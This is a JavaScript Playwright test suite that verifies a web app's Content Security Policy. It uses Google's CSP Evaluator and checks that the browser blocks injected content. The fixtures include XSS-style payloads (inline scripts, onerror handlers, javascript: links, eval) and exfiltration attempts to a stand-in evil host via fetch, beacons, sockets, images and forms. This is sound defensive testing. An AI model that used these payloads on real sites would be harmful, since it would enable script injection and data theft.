// The policy: what Google's evaluator says of it, and that the browser blocks what it should.

import { chromium } from "@playwright/test";
import { CspEvaluator } from "csp_evaluator/dist/evaluator.js";
import { Severity } from "csp_evaluator/dist/finding.js";
import { CspParser } from "csp_evaluator/dist/parser.js";

import { launchOptions } from "./chromium.mjs";
import { asGraph } from "./emulator.mjs";
import { EVIL, startEvil } from "./evil.mjs";
import { expect, test as base } from "./fixtures.mjs";
import * as guide from "./guide.mjs";
import { watch } from "./watch.mjs";

const test = base.extend({
  /** The evil host, and a browser that reaches it. */
  evil: [
    async ({}, use) => {
      const evil = await startEvil();
      const browser = await chromium.launch(launchOptions(evil));
      await use({ ...evil, browser });
      await browser.close();
      await evil.stop();
    },
    { scope: "worker" },
  ],

  /** A page in that browser. It shows its heading at the end, and nothing reached the evil host. */
  victim: async ({ evil, baseURL }, use) => {
    evil.hits.length = 0;
    const context = await evil.browser.newContext({ baseURL });
    const page = await context.newPage();
    await use(page);
    // By hand: a locator would wait for the navigation that was blocked.
    const works = () => page.evaluate(() => document.querySelector("#app h1")?.checkVisibility());
    await expect.poll(works, "the page still works").toBe(true);
    expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
    expect(evil.hits, "requests to the evil host").toEqual([]);
    await context.close();
  },

  /** What that page lets out. */
  seen: async ({ victim }, use) => use(await watch(victim)),
});

// Each of these tests says by itself what is wrong.
test.use({ trace: "off" });

for (const [where, read] of [
  ["the header", async (response) => response.headers()["content-security-policy"]],
  ["the page", async (response) => (await response.text()).match(/content="(default-src [^"]+)"/)[1]],
]) {
  test(`the evaluator has nothing against the policy in ${where}`, async ({ request }) => {
    const { csp } = new CspParser(await read(await request.get("/")));
    const findings = new CspEvaluator(csp).evaluate();
    expect(findings.filter(({ severity }) => severity <= Severity.HIGH_MAYBE)).toEqual([]);
    // A remark on every policy with 'self': it cannot know that the page's host keeps no uploads.
    const rest = findings.map(({ type, directive, value }) => [type, directive, value]);
    expect(rest).toEqual([[305, "script-src", "'self'"]]);
  });
}

/** Changes the page on its way to the browser. */
async function change(page, from, to) {
  await page.route("/", async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    const policy = response.headers()["content-security-policy"];
    expect(html).toContain(from);
    await route.fulfill({
      response,
      headers: { ...response.headers(), "content-security-policy": policy.replace(from, to) },
      body: html.replace(from, to),
    });
  });
}

/** Markup that got into the page, and the violation that it makes. */
const MARKUP = {
  "an inline script": ["<script>window.__pwned = true</script>", "script-src-elem inline"],
  "a script in a frame": [`<iframe srcdoc="<script>parent.__pwned = true</script>"></iframe>`, "script-src-elem inline"],
  "a foreign script": [`<script src="${EVIL}a.js"></script>`, `script-src-elem ${EVIL}`],
  "an event handler": [`<img src="./none.svg" onerror="window.__pwned = true">`, "script-src-attr inline"],
  "a style attribute": [`<p style="position: fixed; inset: 0">x</p>`, "style-src-attr inline"],
  "a style sheet": ["<style>#app { display: none }</style>", "style-src-elem inline"],
  "a foreign style sheet": [`<link rel="stylesheet" href="${EVIL}a.css">`, `style-src-elem ${EVIL}`],
  "a foreign image": [`<img src="${EVIL}a.png">`, `img-src ${EVIL}`],
  "a foreign video": [`<video src="${EVIL}a.mp4"></video>`, `media-src ${EVIL}`],
  "a foreign icon": [`<link rel="icon" href="${EVIL}a.svg">`, `img-src ${EVIL}`],
  "a prefetch": [`<link rel="prefetch" href="${EVIL}a">`, `default-src ${EVIL}`],
  "a frame": [`<iframe src="${EVIL}"></iframe>`, "frame-src http://evil.test"],
  "a plug-in": [`<object data="${EVIL}"></object>`, "object-src http://evil.test"],
  "another base": [`<base href="${EVIL}">`, `base-uri ${EVIL}`],
};

for (const [what, [markup, violation]] of Object.entries(MARKUP)) {
  test(`blocked in the markup: ${what}`, async ({ victim, seen }) => {
    await change(victim, "<div id=app>", `${markup}<div id=app>`);
    await victim.goto("/");
    await seen.expectProvoked(violation);
  });
}

/** Markup that waits for a press. */
const LURES = {
  "a form": [`<form action="${EVIL}"><input name="a"><button id="lure">x</button></form>`, `form-action ${EVIL}`],
  "a button's own address": [`<form><button id="lure" formaction="${EVIL}">x</button></form>`, `form-action ${EVIL}`],
  "a javascript: link": [`<a id="lure" href="javascript:window.__pwned = true">x</a>`, "script-src-elem inline"],
  "a ping": [`<a id="lure" ping="${EVIL}" href="#/connect">x</a>`, `connect-src ${EVIL}`],
};

for (const [what, [markup, violation]] of Object.entries(LURES)) {
  test(`blocked when pressed: ${what}`, async ({ victim, seen }) => {
    await change(victim, "<div id=app>", `${markup}<div id=app>`);
    await victim.goto("/");
    await victim.locator("#lure").dispatchEvent("click");
    await seen.expectProvoked(violation);
  });
}

const TRUSTED_TYPES = "; require-trusted-types-for 'script'; trusted-types default";
const SINK = "require-trusted-types-for trusted-types-sink";
const POLICY = "trusted-types trusted-types-policy";

/**
 * What a script might do, and the violations that it makes: with Trusted Types, and, where another
 * directive stands behind them, in a browser that has none.
 */
const DEEDS = [
  ["eval", () => eval("window.__pwned = true"), SINK, "script-src eval"],
  ["new Function", () => new Function("window.__pwned = true")(), SINK, "script-src eval"],
  ["a text for a timer", () => setTimeout("window.__pwned = true"), SINK, "script-src eval"],
  ["innerHTML", () => (document.body.innerHTML = "<b>"), SINK],
  ["document.write", () => document.write("<b>"), SINK],
  ["a new inline script", addScript, SINK, "script-src-elem inline"],
  ["a new event handler", () => document.body.setAttribute("onclick", "0"), SINK, "script-src-attr inline"],
  ["a new foreign script", addForeignScript, SINK, `script-src-elem ${EVIL}`],
  ["a foreign module", (evil) => import(evil), `script-src-elem ${EVIL}`],
  ["another worker", () => new Worker("./boot.js"), SINK],
  ["a worker of text", () => new Worker(URL.createObjectURL(new Blob([""]))), SINK, "worker-src blob"],
  ["a service worker", () => navigator.serviceWorker.register("./boot.js"), SINK],
  ["a policy for itself", () => trustedTypes.createPolicy("mine", {}), POLICY],
  ["another default policy", () => trustedTypes.createPolicy("default", {}), POLICY],
  ["a style attribute", () => document.body.setAttribute("style", "color: red"), "style-src-attr inline"],
  ["fetch", (evil) => fetch(evil, { method: "POST", mode: "no-cors", body: "a" }), `connect-src ${EVIL}`],
  ["a beacon", (evil) => navigator.sendBeacon(evil, "a"), `connect-src ${EVIL}`],
  ["a socket", () => new WebSocket("ws://evil.test/"), "connect-src ws://evil.test/"],
  ["events", (evil) => new EventSource(evil), `connect-src ${EVIL}`],
  ["an image", (evil) => (new Image().src = evil), `img-src ${EVIL}`],
  ["a font", (evil) => new FontFace("a", `url(${evil})`).load(), `font-src ${EVIL}`],
  ["a form", submitForm, `form-action ${EVIL}`],
];

function addScript() {
  const script = document.createElement("script");
  script.textContent = "window.__pwned = true";
  document.body.append(script);
}

function addForeignScript(evil) {
  const script = document.createElement("script");
  script.src = evil;
  document.body.append(script);
}

function submitForm(evil) {
  const form = document.createElement("form");
  form.action = evil;
  document.body.append(form);
  form.submit();
}

/** Has the page do something by itself: what a debugger evaluates may do more. */
const act = (page, deed) => page.evaluate(`setTimeout(() => (${deed})("${EVIL}"))`);

/** Expects each deed to violate the policy twice: that of the header, and that of the page. */
async function expectBlocked(page, seen, deeds) {
  await page.goto("/");
  for (const [what, deed, violation] of deeds) {
    await act(page, deed);
    const count = () => seen.violations.filter((line) => line.startsWith(violation)).length;
    await expect.poll(count, `${what}: ${violation}`).toBe(2);
    seen.violations.length = 0;
  }
}

test("blocked in a script", async ({ victim, seen }) => {
  await expectBlocked(victim, seen, DEEDS);
});

test("blocked in a script, by a browser without Trusted Types", async ({ victim, seen }) => {
  await change(victim, TRUSTED_TYPES, "");
  const deeds = DEEDS.map(([what, deed, first, behind]) => [what, deed, behind ?? first]);
  await expectBlocked(victim, seen, deeds.filter(([, , violation]) => !/trusted-types/.test(violation)));
});

test("a host that sends no headers: the policy in the page holds by itself", async ({ badHost, victim, seen }) => {
  const bare = (reply) => (reply.headers = { "content-type": reply.headers["content-type"] });
  await victim.goto(await badHost(bare));
  await guide.connectPractice(victim);
  seen.expectQuiet();
  await act(victim, (evil) => fetch(evil));
  await expect.poll(() => seen.violations).toEqual([`connect-src ${EVIL}`]);
});

test("blocked: a redirect from Graph to a foreign host", async ({ emulator, evil, baseURL }) => {
  const graph = asGraph(emulator);
  const rules = `${graph.rules}, ${evil.rules}`;
  const browser = await chromium.launch(launchOptions({ rules, args: graph.args }));
  const page = await browser.newPage({ baseURL });
  const seen = await watch(page);
  evil.hits.length = 0;
  await emulator.fail({ status: 307, headers: { Location: EVIL } });
  await page.goto("/");
  // The page asks with `redirect: "error"`; here it is the policy alone that stands in the way.
  await act(page, () => fetch("https://graph.facebook.com/", { method: "POST", body: "a" }));
  await seen.expectProvoked("connect-src https://graph.facebook.com");
  expect(evil.hits).toEqual([]);
  await browser.close();
});

test("the evil host is there: nothing but the policy keeps it away", async ({ evil }) => {
  const page = await evil.browser.newPage();
  await page.goto(EVIL);
  expect(evil.hits).toContain("GET /");
  await page.close();
});
